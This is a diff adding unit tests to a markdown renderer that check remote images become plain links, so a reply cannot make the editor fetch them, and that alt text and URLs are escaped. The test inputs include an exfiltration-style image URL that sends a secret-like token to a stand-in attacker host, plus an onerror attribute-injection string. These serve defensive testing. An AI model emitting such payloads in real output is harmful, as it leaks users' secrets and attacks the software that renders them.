@@ -14,6 +14,27 @@ describe('renderMarkdown', () => {
     expect(html).toContain('&lt;script&gt;');
   });
 
+  it('renders a remote image as a link, so a reply cannot make the editor fetch it', () => {
+    const html = renderMarkdown('![chart](https://attacker.example/?d=sk-secret) and ![](http://127.0.0.1:9/x.png) ![r](rel.png)');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('<a href="https://attacker.example/?d=sk-secret" class="image-link"');
+    expect(html).toContain('>image: chart</a>');
+    expect(html).toContain('<a href="http://127.0.0.1:9/x.png" class="image-link"');
+    expect(html).toContain('<a href="rel.png" class="image-link"');
+  });
+
+  it('still renders a data: image inline', () => {
+    const html = renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)');
+    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">');
+  });
+
+  it('escapes a remote image link\'s alt text and URL', () => {
+    const html = renderMarkdown('![<b>x</b>](https://a.example/"onerror=alert(1))');
+    expect(html).not.toContain('<img');
+    expect(html).not.toContain('<b>');
+    expect(html).not.toMatch(/"onerror/);
+  });
+
   it('drops javascript: links', () => {
     const html = renderMarkdown('[click](javascript:alert(1)) [ok](https://example.com)');
     expect(html).not.toContain('href="javascript:');
